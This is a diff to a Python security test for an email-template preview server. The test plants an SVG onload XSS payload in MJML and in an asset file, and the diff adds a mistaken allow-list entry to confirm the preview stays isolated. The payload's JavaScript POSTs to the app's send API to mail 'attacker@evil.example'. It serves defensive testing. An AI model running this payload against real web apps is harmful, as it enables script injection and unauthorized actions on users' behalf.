@@ -32,7 +32,8 @@ SEND_JS = ("var x=new XMLHttpRequest();x.open('POST',self.origin+'/api/send/mini
            "x.setRequestHeader('Content-Type','application/json');"
            "x.send(JSON.stringify({to:'attacker@evil.example'}));"
            "top.document.body.dataset.pwned='1'")
-# markup the build accepts (no <script>): an inline SVG's load handler
+# an inline SVG's load handler: html-forbidden refuses it, but a reviewer may accept
+# the finding in check-allow.toml, and the preview must stay safe even then
 HOSTILE_MJML = f'<mj-raw><svg width="1" height="1" onload="{SEND_JS}"></svg></mj-raw>'
 HOSTILE_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SEND_JS}"></svg>'
 
@@ -53,6 +54,9 @@ def test_hostile_email_markup_cannot_act_as_the_preview(
     source.write_text(text.replace("<mj-text css-class=\"total\">",
                                    HOSTILE_MJML + "<mj-text css-class=\"total\">", 1),
                       encoding="utf-8")
+    (mini_copy / "check-allow.toml").write_text(
+        '[[accept]]\nrule = "html-forbidden"\ntemplates = ["mini"]\n'
+        'reason = "accepted by mistake in review"\n', encoding="utf-8")
     (mini_copy / "assets").mkdir()
     (mini_copy / "assets/evil.svg").write_text(HOSTILE_SVG, encoding="utf-8")
     server = serve(mini_copy, send=SendSettings(smtp_host="127.0.0.1", smtp_port=port))
